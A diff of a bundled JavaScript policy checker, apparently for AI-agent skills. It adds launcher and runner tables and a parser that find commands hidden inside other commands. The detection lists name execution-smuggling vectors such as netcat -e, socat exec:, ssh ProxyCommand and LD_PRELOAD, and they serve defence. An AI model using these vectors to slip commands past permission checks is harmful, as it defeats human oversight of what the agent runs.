-		granted: policy.effects
-	})];
-	const key = effectGrants[item.name];
-	if (key !== void 0) return unboundedDenials(item, subject, key, policy);
-	const limits = policy.effects !== null || harmlessEffects.has(item.name) ? [] : limitsOf$1(policy, [
-		"network",
-		"exec",
-		"filesystemRead",
-		"filesystemWrite"
-	]);
-	if (limits.length === 0) return [];
-	return [ambiguousDenial(msg`Unknown effect ${code$1(item.name)}.`, limits, {
-		at: item.at,
-		about: `effect\0${item.name}`
-	})];
-}
-const harmlessEffects = new Set([
-	"db.read",
-	"db.write",
-	"fs.read",
-	"git.read",
-	"git.write"
+// src/contract/programs/launchers.ts
+const plain = {};
+const python = { values: [
+	"--with",
+	"--python",
+	"-p",
+	"--from",
+	"--directory",
+	"--project",
+	"--env-file",
+	"--extra",
+	"--group",
+	"--index",
+	"--index-url",
+	"--with-editable",
+	"--with-requirements",
+	"--package"
+] };
+const node = { values: [
+	"-p",
+	"--package",
+	"--prefix",
+	"-C",
+	"--registry",
+	"--cache",
+	"--cwd"
+] };
+const launchers = new Map([
+	...[
+		"time",
+		"nohup",
+		"command",
+		"builtin",
+		"setsid",
+		"noglob",
+		"nocorrect",
+		"coproc",
+		"winpty",
+		"unbuffer",
+		"busybox",
+		"toybox",
+		"caffeinate",
+		"rlwrap",
+		"cross-env",
+		"ltrace",
+		"firejail",
+		"unshare",
+		"catchsegv",
+		"start",
+		"arch",
+		"setarch",
+		"chronic"
+	].map((name) => [name, plain]),
+	...[
+		"poetry run",
+		"pipenv run",
+		"pdm run",
+		"rye run",
+		"hatch run",
+		"bundle exec"
+	].map((name) => [name, plain]),
+	...[
+		"dotenvx run",
+		"op run",
+		"doppler run",
+		"mise exec",
+		"mise x",
+		"mise run"
+	].map((name) => [name, { values: [
+		"-f",
+		"--env-file",
+		"-p",
+		"--project",
+		"-c",
+		"--config"
+	] }]),
+	...[
+		"npx",
+		"bunx",
+		"pnpx",
+		"pnpm exec",
+		"pnpm dlx",
+		"yarn dlx",
+		"yarn exec",
+		"npm exec"
+	].map((name) => [name, node]),
+	...[
+		"uvx",
+		"uv run",
+		"uv tool run",
+		"pipx run"
+	].map((name) => [name, python]),
+	["bun x", node],
+	["dotenv", { values: [
+		"-e",
+		"-f",
+		"-p",
+		"-c"
+	] }],
+	["parallel", { values: [
+		"-j",
+		"--jobs",
+		"-I",
+		"-a",
+		"-N",
+		"-n",
+		"--colsep"
+	] }],
+	["env", { values: [
+		"-u",
+		"--unset",
+		"-C",
+		"--chdir",
+		"-S",
+		"--split-string",
+		"-a",
+		"--argv0"
+	] }],
+	["sudo", { values: [
+		"-u",
+		"-g",
+		"-C",
+		"-p",
+		"-D",
+		"-h",
+		"-R",
+		"-T",
+		"-U",
+		"--user"
+	] }],
+	["doas", { values: ["-u", "-C"] }],
+	["timeout", {
+		values: [
+			"-k",
+			"-s",
+			"--signal",
+			"--kill-after"
+		],
+		operands: 1
+	}],
+	["gtimeout", {
+		values: ["-k", "-s"],
+		operands: 1
+	}],
+	["nice", { values: ["-n", "--adjustment"] }],
+	["ionice", { values: [
+		"-c",
+		"-n",
+		"-p"
+	] }],
+	["exec", { values: ["-a"] }],
+	["stdbuf", { values: [
+		"-i",
+		"-o",
+		"-e"
+	] }],
+	["strace", { values: [
+		"-o",
+		"-e",
+		"-p",
+		"-s"
+	] }],
+	["xargs", { values: [
+		"-n",
+		"-P",
+		"-I",
+		"-L",
+		"-d",
+		"-a",
+		"-s",
+		"-E"
+	] }],
+	["watch", { values: ["-n"] }],
+	["chrt", { operands: 1 }],
+	["taskset", { operands: 1 }],
+	["chroot", { operands: 1 }],
+	["flock", {
+		values: ["-w", "-E"],
+		operands: 1
+	}],
+	["direnv exec", { operands: 1 }],
+	["conda run", { values: [
+		"-n",
+		"-p",
+		"--name",
+		"--prefix"
+	] }],
+	["micromamba run", { values: ["-n", "-p"] }]
 ]);
-function execution(item, policy) {
-	if (!isSet(item, "value")) return [];
-	if (item.name === "destructive" || item.name === "interactive") return policy[item.name] ? [] : [flagDenial(item, `execution.${item.name}`)];
-	if (item.name !== "network") return [];
-	return unboundedDenials(item, msg`${code$1("execution.network")}`, "network", policy);
+// src/contract/programs/runner-options.ts
+const roles = [
+	"runs",
+	"rest",
+	"hidden",
+	"settings",
+	"ends",
+	"values"
+];
+function optionsOf(runner) {
+	return new Map(roles.flatMap((role) => wordList(runner[role] ?? "").map((written) => {
+		const name = written.replace(/\?$/, "");
+		return [name, {
+			role,
+			isAttached: name !== written
+		}];
+	})));
 }
-function sensitive(item, policy) {
-	return isSet(item, "value") && !policy.sensitive ? [flagDenial(item, "sensitive")] : [];
-}
-function environment(item, { envRead }) {
-	if (envRead === "any") return [];
-	const granted = {
-		type: "entries",
-		of: "variable",
-		empty: "none",
-		value: envRead
+function optionIn(word, options, isLong = false) {
+	const equals = word.indexOf("=");
+	const written = equals < 0 ? word : word.slice(0, equals);
+	const value = equals < 0 ? void 0 : word.slice(equals + 1);
+	const exact = options.get(written) ?? (isLong ? options.get(written.toLowerCase()) : void 0);
+	if (exact) return {
+		...exact,
+		value
 	};
-	const { gained } = compareEntries$1(granted, {
-		...granted,
-		value: [item.name]
-	});
-	const limit = {
-		key: "env_read",
-		granted: envRead
+	if (isLong || word === "--" || !/^-./.test(word)) return void 0;
+	if (!word.startsWith("--")) return attachedOption(word, options);
+	const abbreviated = Array.from(options).find(([name]) => name.startsWith(written));
+	return abbreviated && {
+		...abbreviated[1],
+		value
 	};
-	return gained.length > 0 ? [outsideDenial(item, msg`Variable ${code$1(item.name)}`, limit)] : [];
 }
-function flagDenial(item, field) {
-	return createDenial(item, msg`The policy denies ${code$1(field)}.`);
-}
-function unboundedDenials(item, subject, key, policy) {
-	const grant = policy[key];
-	if (grant === "any") return [];
-	const name = policyKeyNames[key];
-	if (grant.length === 0) return [createDenial(item, msg`${subject} needs ${code$1(name)}. The policy denies it.`)];
-	return [createDenial(item, msg`${subject} is not limited; the policy limits ${code$1(name)}.`, {
-		key: name,
-		granted: grant
-	})];
-}
-function power$2(item, policy) {
-	if (item.name === "secrets_access") return isSet(item, "value") && !policy.secrets ? [flagDenial(item, "secrets")] : [];
-	if (item.name === "terminal_exec") return isSet(item, "allowed") ? denialsBeyondGrant(item, "commands", policy.exec, "exec") : [];
-	if (item.name === "network") return denialsBeyondGrant(item, "value", policy.network, "network");
-	const limit = listLimits[item.name];
-	return limit ? denialsBeyondGrant(item, "value", policy[limit], policyKeyNames[limit]) : [];
-}
-const listLimits = {
-	filesystem_read: "filesystemRead",
-	filesystem_write: "filesystemWrite",
-	env_read: "envRead"
-};
-function denialsBeyondGrant(item, name, grant, key) {
-	const facet = item.facets.get(name);
-	const requested = facet?.shape.type === "entries" ? facet.shape : void 0;
-	if (!facet || !requested || grant === "any") return [];
-	if (requested.empty === "all" && requested.value.length === 0) {
-		const message = msg`The skill may run any command; the policy limits ${code$1(key)}.`;
-		return [createDenial({
-			...item,
-			at: facet.at
-		}, message, {
-			key,
-			granted: grant
-		})];
+function attachedOption(word, options) {
+	for (const [name, option] of options) if (name.length > 2 && name[1] !== "-" && word.startsWith(name)) return {
+		...option,
+		value: word.slice(name.length)
+	};
+	for (let index = 1; index < word.length; index++) {
+		const option = options.get(`-${word[index]}`);
+		if (option) return {
+			...option,
+			value: word.slice(index + 1) || void 0
+		};
 	}
-	const { gained } = compareEntries$1({
-		...requested,
-		empty: "none",
-		value: grant
-	}, {
-		...requested,
-		empty: "none"
+}
+function withoutCluster(words, options) {
+	const [program = "", cluster = "", ...rest] = words;
+	if (!/^[a-z]+$/i.test(cluster)) return words;
+	const letters = Array.from(cluster, (letter) => `-${letter}`);
+	let next = 0;
+	return [
+		program,
+		...letters.flatMap((letter) => options.has(letter) ? [letter, rest[next++] ?? ""] : [letter]),
+		...rest.slice(next)
+	];
+}
+// src/contract/programs/runners.ts
+const gitSetting = /^(?!(?:user|author|committer|color|advice|safe|gc|log|status|push|pull|fetch|branch|tag|column|i18n|transfer|pack)\.[a-z.-]+=|(?:core\.(?:quotepath|autocrlf|eol|safecrlf|longpaths|ignorecase|filemode|abbrev|commentchar)|commit\.gpgsign|init\.defaultbranch|protocol\.version|http\.(?:version|postbuffer|sslverify|extraheader|lowspeed[a-z]+)|diff\.(?:renames|renamelimit|noprefix|mnemonicprefix|algorithm)|rebase\.[a-z]+|merge\.(?:ff|conflictstyle|renames|renamelimit)|submodule\.recurse)(?:=|$))/i;
+const variable = /^(?:(?:LD_(?:PRELOAD|LIBRARY_PATH|AUDIT)|DYLD_\w+|PATH|BASH_ENV|ENV|PROMPT_COMMAND|PYTHONSTARTUP|PERL5(?:OPT|LIB|DB)|RUBY(?:OPT|LIB)|JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|GIT_(?:EXEC_PATH|CONFIG\w*|TEMPLATE_DIR)|GOFLAGS|MAKEFLAGS|TAR_OPTIONS|LESS(?:OPEN|CLOSE)|NODE_OPTIONS(?!=--(?:max|no|enable|trace|stack|experimental-vm)-))=|(?:(?:\w+_)?(?:PAGER|EDITOR|VISUAL|BROWSER|SHELL|ASKPASS|WRAPPER|RUNNER|LINKER)|GIT_(?:SSH|SSH_COMMAND|EXTERNAL_DIFF|PROXY_COMMAND|SEQUENCE_EDITOR)|(?:RSYNC|CVS)_RSH|RUSTC|CC|CXX|LD|AR|NPM_CONFIG_(?:GIT|SCRIPT_SHELL))=(?<run>.+)$)/i;
+const npm = "--script-shell --git --shell --editor --browser --viewer";
+const npmExec = "-p --package --prefix -w --workspace -C --dir --registry --cache";
+const docker = "-a --attach --add-host --annotation --blkio-weight --cap-add --cap-drop --cgroup-parent --cgroupns --cidfile --cpu-period --cpu-quota -c --cpu-shares --cpus --cpuset-cpus --cpuset-mems --detach-keys --device --dns --dns-option --dns-search --domainname -e --env --env-file --expose --gpus --group-add --health-cmd --health-interval --health-retries --health-timeout -h --hostname --ip --ip6 --ipc --isolation -l --label --label-file --link --log-driver --log-opt --mac-address -m --memory --memory-reservation --memory-swap --mount --name --net --network --network-alias --oom-score-adj --pid --pids-limit --platform -p --publish --pull --restart --runtime --security-opt --shm-size --stop-signal --stop-timeout --storage-opt --sysctl --tmpfs --ulimit -u --user --userns --uts -v --volume --volume-driver --volumes-from -w --workdir";
+const kubectl = "-n --namespace --context --kubeconfig --cluster -c --container -f --filename";
+const ssh = "-B -b -c -D -E -e -F -I -i -J -L -l -m -O -p -P -Q -R -S -W -w";
+const sshSetting = /^(?:(?:(?:Proxy|Local|KnownHosts|AuthorizedKeys)Command|XAuthLocation)=(?!none$)(?<run>.+)|(?:PKCS11|SecurityKey)Provider=)/i;
+const sedScript = /^(?:[\d~,+]|\/[^/]*\/[IM]*)*(?:e(?=.)(?<run>.+)|e$|s(.)(?:(?!\2).)*\2(?:(?!\2).)*\2[gpiIMm\d]*e)/;
+const shell = {
+	runs: "-c --command",
+	values: "-o -O --rcfile --init-file",
+	stops: 1
+};
+const compiled = "-C -p -tags -ldflags -gcflags -asmflags -mod -modfile -o -overlay -run -bench -timeout -count";
+const runners = {
+	git: {
+		hidden: "--exec-path? --config-env",
+		settings: "-c",
+		setting: gitSetting,
+		values: "-C --git-dir --work-tree --namespace --super-prefix --attr-source",
+		stops: 1
+	},
+	"git bisect run": { operands: 0 },
+	"git submodule foreach": { operands: 0 },
+	"git grep": {
+		runs: "-O? --open-files-in-pager?",
+		values: "-A -B -C -m -e -f --max-depth --threads"
+	},
+	"git rebase": {
+		runs: "-x --exec",
+		values: "-s -X -C --onto --strategy --strategy-option"
+	},
+	"git difftool": {
+		runs: "-x --extcmd",
+		values: "-t --tool"
+	},
+	"git fetch, git pull, git ls-remote, git fetch-pack, git push, git send-pack, git archive": {
+		runs: "--upload-pack --receive-pack --exec",
+		values: "-o --push-option --depth -j --jobs --prefix --format --server-option -s -X"
+	},
+	"git clone": {
+		runs: "-u --upload-pack",
+		settings: "-c --config",
+		setting: gitSetting,
+		values: "-o -b -j --origin --branch --depth --jobs --reference --separate-git-dir"
+	},
+	"git filter-branch": {
+		runs: "--setup --env-filter --tree-filter --index-filter --parent-filter --msg-filter --commit-filter --tag-name-filter",
+		values: "-d --original --subdirectory-filter --state-branch"
+	},
+	"git send-email": { runs: "--sendmail-cmd --to-cmd --cc-cmd --header-cmd --smtp-server" },
+	"git merge-index": { operands: 0 },
+	"git instaweb": { runs: "-d --httpd -b --browser" },
+	"git daemon": { runs: "--access-hook" },
+	find: {
+		rest: "-exec -execdir -ok -okdir",
+		isLong: true
+	},
+	"fd, fdfind": {
+		rest: "-x --exec -X --exec-batch",
+		values: "-e -E -t -d -j -S -c"
+	},
+	xargs: {
+		values: "-n -P -I -L -d -a -s -E --max-args --max-procs --max-lines? --replace? --delimiter --arg-file --max-chars --process-slot-var -i? -l? -e?",
+		operands: 0
+	},
+	env: {
+		runs: "-S --split-string",
+		values: "-u --unset -C --chdir -a --argv0",
+		operands: 0
+	},
+	entr: { operands: 0 },
+	command: {
+		ends: "-v -V",
+		operands: 0
+	},
+	flock: {
+		runs: "-c --command",
+		values: "-w -E --timeout",
+		operands: 1
+	},
+	"su, runuser, script": {
+		runs: "-c --command",
+		values: "-s -g -G -E -I -O -T"
+	},
+	"mise run, uvx": { stops: 1 },
+	"uv run": {
+		values: "-p --python -w --with --with-editable --with-requirements --from --directory --project --env-file --extra --group --index --index-url --package",
+		ends: "-m --module -s --script",
+		operands: 0,
+		script: /\.pyw?$/
+	},
+	"systemd-run": {
+		values: "-p --property -u --unit -E --setenv -M --uid --gid",
+		operands: 0
+	},
+	"npm, pnpm, yarn": {
+		runs: npm,
+		values: npmExec
+	},
+	"npm exec, npm x": {
+		runs: `-c --call ${npm}`,
+		values: npmExec,
+		operands: 0
+	},
+	"pnpm exec, pnpm dlx, yarn exec, yarn dlx": {
+		runs: npm,
+		values: npmExec,
+		operands: 0
+	},
+	"npx, bunx, pnpx": {
+		runs: "-c --call",
+		values: npmExec,
+		stops: 1
+	},
+	"uv, poetry, pipenv, pdm, rye, bundle, pipx, direnv, conda, micromamba, mise, op, doppler, dotenvx": {
+		values: "--directory --project --config-file --cache-dir -C --cd",
+		stops: 1
+	},
+	pip: {
+		runs: "--python --editor",
+		values: "-r -c -e -i -t -d -f --index-url"
+	},
+	"docker, podman, docker container, podman container": {
+		values: "-H --host --context --config -l --log-level",
+		stops: 1
+	},
+	"docker compose, podman compose, docker-compose": {
+		values: "-f --file -p --project-name --profile --env-file --project-directory --ansi --progress --parallel",
+		stops: 1
+	},
+	"docker run, docker exec, docker create, docker container run, docker container exec, docker compose run, docker compose exec, docker-compose run, docker-compose exec, podman run, podman exec, podman create, podman compose run, podman compose exec": {
+		runs: "--entrypoint",
+		values: docker,
+		operands: 1
+	},
+	kubectl: {
+		values: kubectl,
+		stops: 1
+	},
+	"kubectl exec": {
+		values: kubectl,
+		operands: 1
+	},
+	"gh extension exec, gh ext exec": { operands: 0 },
+	"gh alias set": { hidden: "-s --shell" },
+	go: {
+		values: "-C",
+		stops: 1
+	},
+	"go run": {
+		runs: "-exec --exec -toolexec --toolexec",
+		values: compiled,
+		stops: 1,
+		isLong: true
+	},
+	"go test, go build, go install, go vet, go list, go generate, go get": {
+		runs: "-exec --exec -toolexec --toolexec -vettool --vettool",
+		values: compiled,
+		ends: "-args --args",
+		isLong: true
+	},
+	"cargo watch": {
+		runs: "-s --shell",
+		values: "-w -x -i -d -C"
+	},
+	rustc: {
+		settings: "-C --codegen",
+		setting: /^linker=(?<run>.+)/
+	},
+	"gcc, g++, cc, c++": {
+		runs: "-wrapper",
+		isLong: true
+	},
+	tar: {
+		runs: "-I -F --use-compress-program --to-command --rsh-command --info-script --new-volume-script",
+		settings: "--checkpoint-action",
+		setting: /^exec=(?<run>.+)/,
+		values: "-f -b -C -g -H -K -L -N -T -V -X --file --directory --exclude --files-from --transform",
+		isBare: true
+	},
+	ssh: {
+		settings: "-o",
+		setting: sshSetting,
+		values: ssh,
+		stops: 2
+	},
+	"scp, sftp": {
+		runs: "-S -D",
+		settings: "-o",
+		setting: sshSetting,
+		values: "-B -b -c -F -i -J -l -P -s -X"
+	},
+	rsync: {
+		runs: "-e --rsh",
+		values: "-f -B -T -M --exclude --include --filter --exclude-from --rsync-path"
+	},
+	zip: {
+		runs: "-TT --unzip-command",
+		values: "-b -n -t -P -s"
+	},
+	make: {
+		hidden: "--eval -E",
+		values: "-C -f -I -o -W --directory --file --makefile",
+		operand: /^(?:SHELL|MAKE|CC|CXX|CPP|FC|LD|AR|AS|RM|LEX|YACC):?=(?<run>.+)/
+	},
+	sed: {
+		settings: "-e --expression",
+		setting: sedScript,
+		code: sedScript,
+		values: "-f --file -l --line-length -i? --in-place?"
+	},
+	"awk, mawk, nawk": {
+		hidden: "-l --load",
+		values: "-f -F -v -i -e",
+		stops: 1
+	},
+	man: {
+		runs: "-P --pager -H? --html?",
+		values: "-C -M -S -s -L -m -e -r -R"
+	},
+	"vi, vim, nvim, view, vimdiff": {
+		settings: "-c --cmd",
+		setting: /^(?!(?:[wx]?qa?|[wqx]+|set.*|syntax.*|\d+)$)/,
+		values: "-u -U -S -s -t -T -w -W -i"
+	},
+	less: { values: "-k -o -p -P -x -t -T -b -h -j -y" },
+	sort: {
+		runs: "--compress-program",
+		values: "-k -t -o -S -T"
+	},
+	split: {
+		runs: "--filter",
+		values: "-a -b -C -l -n -t"
+	},
+	wget: {
+		runs: "--use-askpass",
+		values: "-O -o -a -P -U -e -i"
+	},
+	tcpdump: {
+		runs: "-z --postrotate-command",
+		values: "-i -w -r -c -C -G -W -s"
+	},
+	"nc, ncat, netcat": {
+		runs: "-e -c --exec --sh-exec",
+		values: "-p -w -s -i -q"
+	},
+	socat: { operand: /^(?:exec|system|shell):(?<run>[^,]+)/i },
+	"apt, apt-get, apt-cache": {
+		settings: "-o --option",
+		setting: /invoke|hook|::bin/i,
+		values: "-t -c"
+	},
+	nodemon: {
+		runs: "-x --exec",
+		values: "-w -e -i",
+		stops: 1
+	},
+	"sh, bash, zsh, dash, ksh, fish, ash, csh, tcsh": shell,
+	"python, pypy, py": {
+		hidden: "-c",
+		values: "-W -X --check-hash-based-pycs",
+		ends: "-m",
+		stops: 1
+	},
+	"node, nodejs, tsx, ts-node": {
+		hidden: "-e --eval -p --print",
+		settings: "--import --loader --experimental-loader -r --require",
+		setting: /^data:/,
+		values: "-C --conditions --input-type --env-file --title -P --project",
+		stops: 1
+	},
+	bun: {
+		hidden: "-e --eval -p --print",
+		values: "--cwd -c --config -r --preload",
+		stops: 1
+	},
+	"bun x": {
+		values: npmExec,
+		operands: 0
+	},
+	"deno eval": {
+		hidden: "-p --print",
+		code: /^/
+	},
+	perl: {
+		hidden: "-e -E",
+		values: "-I -M? -m? -i? -F? -x? -V?",
+		stops: 1
+	},
+	ruby: {
+		hidden: "-e",
+		values: "-r -I -C -E -F? -i? -K? -x? -W? -T?",
+		stops: 1
+	},
+	php: {
+		hidden: "-r -B -R -E --run",
+		values: "-d -c -S -t -z",
+		ends: "-f --file",
+		stops: 1
+	},
+	"lua, luajit": {
+		hidden: "-e",
+		values: "-l",
+		stops: 1
+	},
+	julia: {
+		hidden: "-e -E --eval --print",
+		values: "-J -p -t -L -C --project",
+		stops: 1
+	},
+	"rscript, osascript": {
+		hidden: "-e",
+		values: "-l",
+		stops: 1
+	},
+	"powershell, pwsh": {
+		rest: "-c -co -com -comm -comma -comman -command",
+		hidden: "-e -ec -en -enc -encodedcommand -cwa -commandwithargs",
+		values: "-ep -ex -exec -executionpolicy -v -version -psconsolefile -inputformat -outputformat -windowstyle -w -wd -workingdirectory -configurationname",
+		ends: "-f -fi -fil -file",
+		stops: 1,
+		isLong: true
+	},
+	cmd: {
+		rest: "/c /k /r",
+		isLong: true
+	}
+};
+// src/contract/coverage/programs-run.ts
+const maxLength = 4096;
+const maxDepth = 8;
+const maxWords = 256;
+function grantsPrograms(granted, line) {
+	return grantsInner(new Set(granted), line, maxDepth);
+}
+function grantsInner(entries, line, depth) {
+	if (!isPlainCommand(line)) return true;
+	if (line.length > maxLength || depth === 0) return false;
+	if (entries.has(line)) return true;
+	const named = Math.max(...prefixesOf(line).map((prefix) => entries.has(prefix) ? prefix.split(" ").length : 0));
+	return programsIn(line.split(" ")).every(({ index, program }) => {
+		if (named > index) return true;
+		if (program === void 0) return false;
+		return coversCommand(entries, program) && grantsInner(entries, program, depth - 1);
 	});
-	return gained.map((entry) => {
-		const limit = {
-			key,
-			granted: grant
+}
+const usual = new Set(wordList(`
+  ssh gzip pigz bzip2 lbzip2 xz zstd lz4 cat less more true false
+  cc gcc clang c++ g++ clang++ ld ar rm make
+`));
+const rows = createRows();
+function createRows() {
+	const started = Array.from(launchers, ([names, { values = [], operands = 0 }]) => [names, {
+		values: values.join(" "),
+		operands
+	}]);
+	const created = new Map();
+	for (const [names, runner] of [...started, ...Object.entries(runners)]) {
+		const row = {
+			runner,
+			options: optionsOf(runner)
 		};
-		return outsideDenial({
-			...item,
-			at: facet.at
-		}, msg`${code$1(entry)}`, limit, entry);
-	});
-}
-function allowedTools(item, policy) {
-	const requested = facetValue(item, "value");
-	const granted = policy.allowedTools;
-	if (granted === null || !Array.isArray(requested)) return [];
-	const gained = ungrantedTools(granted, requested.map(String));
-	const at = item.facets.get("value")?.at ?? item.at;
-	return gained.map((tool) => {
-		const limit = {
-			key: "allowed-tools",
-			granted
-		};
-		return outsideDenial({
-			...item,
-			at
-		}, msg`Tool ${code$1(tool)}`, limit, tool);
-	});
-}
-const maxNamed = 6;
-function grantedNote({ key, granted }) {
-	if (granted.length === 0) return msg`${code$1(key)} of the policy allows nothing.`;
-	const entries = granted.map((entry) => code$1(entry));
-	return msg`${code$1(key)} of the policy allows ${list(entries, { limit: maxNamed })}.`;
-}
-function outsideDenial(item, subject, limit, about = "") {
-	return createDenial(item, msg`${subject} is not in ${code$1(limit.key)} of the policy.`, limit, about);
-}
-function createDenial(item, message, limit = null, about = "") {
-	return {
-		message,
-		notes: limit ? [{ message: grantedNote(limit) }] : [],
-		at: item.at,
-		about: [
-			item.kind,
-			item.name,
-			about
-		].join("\0")
+		for (const name of names.split(", ")) created.set(name, row);
+	}
+	const parent = {
+		runner: { stops: 1 },
+		options: new Map()
 	};
+	for (const name of [...created.keys()]) {
+		const words = name.split(" ");
+		for (let count = 1; count < words.length; count++) {
+			const above = words.slice(0, count).join(" ");
+			if (!created.has(above)) created.set(above, parent);
+		}
+	}
+	return created;
 }
+function rowName(word) {
+	const name = word.replace(/^.*\//, "").replace(/\.(?:exe|cmd|bat)$/i, "").toLowerCase();
+	return [
+		name,
+		name.replace(/-?\d[\d.]*$/, ""),
+		name.replace(/^g/, "")
+	].find((spelt) => rows.has(spelt)) ?? name;
+}
+function programsIn(written) {
+	const name = rowName(written[0] ?? "");
+	const row = rows.get(name);
+	if (!row) return [];
+	const { runs, isWhole } = new Reading(name, row, written);
+	return isWhole ? runs : [{
+		index: written.length,
+		program: void 0
+	}];
+}
+var Reading = class {
+	runs = [];
+	isWhole;
+	#name;
+	#row;
+	#words;
+	#index = 1;
+	#operands = 0;
+	#hasSetting = false;
+	constructor(name, row, words) {
+		this.#name = name;
+		this.#row = row;
+		this.#words = row.runner.isBare ? withoutCluster(words, row.options) : words;
+		let areOptions = true;
+		const end = Math.min(this.#words.length, maxWords);
+		for (; this.#index < end; this.#index++) {
+			const word = this.#words[this.#index] ?? "";
+			const found = areOptions ? optionIn(word, this.#row.options, this.#row.runner.isLong) : void 0;
+			if (found) this.#readOption(found);
+			else if (areOptions && word === "--") areOptions = false;
+			else if (!areOptions || !/^-./.test(word)) this.#readOperand(word);
+		}
+		this.isWhole = this.#index >= this.#words.length;
+	}
+	#readOption({ role, value: attached, isAttached }) {
+		const index = this.#index;
+		if (role === "ends") this.#stop();
+		if (role === "hidden" && (attached !== void 0 || !isAttached)) this.#add(index, void 0);
+		const takesNext = attached === void 0 && !isAttached && role !== "hidden" && role !== "ends" && role !== "rest";
+		if (takesNext) this.#index++;
+		const value = attached ?? (takesNext ? this.#words[this.#index] : void 0);
+		if (role === "runs" && value !== void 0) this.#addProgram(value);
+		if (role === "rest") this.#addRest(index + 1, attached);
+		if (role === "settings") {
+			this.#hasSetting = true;
+			this.#addMatch(this.#row.runner.setting, value, index);
+		}
+	}
+	#readOperand(word) {
+		const { runner } = this.#row;
+		const below = `${this.#name} ${word}`;
+		const row = this.#operands === 0 ? rows.get(below) : void 0;
+		if (row) {
+			this.#row = row;
+			this.#name = below;
+			return;
+		}
+		const { operands, stops, code, script } = runner;
+		const isAssignment = operands !== void 0 && /^\w+=/.test(word);
+		this.#addMatch(isAssignment ? variable : runner.operand, word, this.#index);
+		if (isAssignment) return;
+		if (this.#operands === 0 && !this.#hasSetting) this.#addMatch(code, word, this.#index);
+		if (this.#operands === operands && !script?.test(word)) this.#addRest(this.#index);
+		const isLast = this.#operands === operands || this.#operands + 1 === stops;
+		this.#operands++;
+		if (isLast) this.#stop();
+	}
+	#addRest(index, attached) {
+		const words = [...attached === void 0 ? [] : [attached], ...this.#words.slice(index)];
+		if (words.length > 0) this.#add(index, words.join(" "));
+		this.#stop();
+	}
+	#addMatch(pattern, text, index) {
+		const found = pattern?.exec(text ?? "");
+		if (!found) return;
+		const program = found.groups?.["run"];
+		if (program === void 0) this.#add(index, void 0);
+		else this.#addProgram(program);
+	}
+	#addProgram(program) {
+		if (!usual.has(program)) this.#add(this.#index, program);
+	}
+	#add(index, program) {
+		this.runs.push({
+			index,
+			program
+		});
+	}
+	#stop() {
+		this.#index = this.#words.length;
+	}
+};
 // src/config/grant-policy.ts
 const grantLimits = [
 	"hooks",
@@ -43303,25 +47188,67 @@ const grantLimits = [
 	"allowedTools",
 	"secrets"
 ];
-function limitNotes(power, policy) {
-	if (power.kind === "guard" || power.feature === "tool-rule") return [];
+function limitsBeyond(power, policy) {
+	if (power.kind === "guard" && power.feature !== "declared") return [];
 	return checks.flatMap(({ key, concerns, entry, of }) => {
 		const limit = policy[key];
 		if (!concerns(power) || limit === true || limit === null || limit === "any") return [];
-		const name = policyKeyNames[key];
-		if (limit === false || limit.length === 0) return [msg`The policy denies ${code$1(name)}.`];
-		return power.reach !== "unknown" && isListed(limit, entry(power), of) ? [] : [grantedNote({
-			key: name,
+		if (limit === false) return [{
+			key,
+			granted: null
+		}];
+		return power.reach !== "unknown" && isListed$1(limit, entry(power), of) ? [] : [{
+			key,
 			granted: limit
-		})];
+		}];
 	});
 }
-const scopeOf = ({ scope, reach }) => reach === "any" ? void 0 : scope;
+function limitNotes(power, policy) {
+	const notes = limitsBeyond(power, policy).map((limit) => limit.granted === null || limit.granted.length === 0 ? msg`The policy denies ${code$1(policyKeyNames[limit.key])}.` : grantedNote(limit));
+	if (notes.length > 0 || hasKey(power, policy)) return notes;
+	const limits = limitsOf$1(policy, [
+		"exec",
+		"network",
+		"allowedTools"
+	]);
+	return limits.length === 0 ? [] : [msg`The policy limits ${policyKeys(limits)}. No key of it allows this.`];
+}
+function hasKey(power, policy) {
+	const { kind, feature, scope } = power;
+	if (kind === "guard" || checkedElsewhere.has(feature)) return true;
+	if (feature === "permission-mode" && askingModes.has(scope)) return true;
+	if (kind === "install") return !policy.unpinned;
+	if (feature === "agent-tools" && kind === "delegate") return policy.allowedTools !== null;
+	return checks.some(({ concerns }) => concerns(power));
+}
+const askingModes = new Set([
+	"plan",
+	"default",
+	"dontAsk"
+]);
+const checkedElsewhere = new Set([
+	"declared",
+	"tool-rule",
+	"invocation"
+]);
+const maxNamed = 6;
+function grantedNote({ key, granted }) {
+	const name = code$1(policyKeyNames[key]);
+	if (granted === null || granted.length === 0) return msg`${name} of the policy allows nothing.`;
+	return msg`${name} of the policy allows ${list(granted.map((entry) => code$1(entry)), { limit: maxNamed })}.`;
+}
+const scopeOf = ({ scope, reach, commands }) => reach === "any" ? void 0 : commands?.line ?? scope;
 const whole = {
 	entry: () => void 0,
 	of: "name"
 };
 const checks = [
+	{
+		key: "effects",
+		concerns: ({ effect }) => effect !== void 0,
+		entry: ({ effect }) => effect,
+		of: "name"
+	},
 	{
 		key: "hooks",
 		...whole,
@@ -43342,6 +47269,11 @@ const checks = [
 		key: "unpinned",
 		...whole,
 		concerns: isUnpinned
+	},
+	{
+		key: "unknown",
+		...whole,
+		concerns: ({ feature }) => feature === "unknown-field"
 	},
 	{
 		key: "exec",
@@ -43369,18 +47301,37 @@ const checks = [
 	},
 	{
 		key: "allowedTools",
-		concerns: ({ feature, kind }) => feature === "permission-rule" && kind === "approve",
+		concerns: ({ feature, kind }) => feature === "permission-rule" && kind === "approve" || feature === "agent-tools" && kind === "delegate",
 		entry: scopeOf,
 		of: "tool"
 	},
 	{
 		key: "secrets",
 		...whole,
-		concerns: ({ kind }) => kind === "secret"
+		concerns: ({ kind, reach }) => kind === "secret" && reach !== "variable"
+	},
+	{
+		key: "envRead",
+		concerns: ({ reach }) => reach === "variable",
+		entry: scopeOf,
+		of: "variable"
+	},
+	{
+		key: "destructive",
+		...whole,
+		concerns: isDeclared("execution.destructive")
+	},
+	{
+		key: "sensitive",
+		...whole,
+		concerns: isDeclared("sensitive")
 	}
 ];
-function readsFiles({ kind }) {
-	return kind === "read" || kind === "write";
+function readsFiles({ kind, feature }) {
+	return kind === "read" || kind === "write" && feature !== "declared";
+}
+function isDeclared(subject) {
+	return (power) => power.feature === "declared" && power.subject === subject;
 }
 function isUnpinned({ pin, feature, kind, reach }) {
 	if (pin) return !["digest", "exact"].includes(pin.level);
@@ -43388,12 +47339,14 @@ function isUnpinned({ pin, feature, kind, reach }) {
 }
 function hostIn({ scope, reach }) {
 	if (reach === "any") return void 0;
+	if (reach === "domain") return scope;
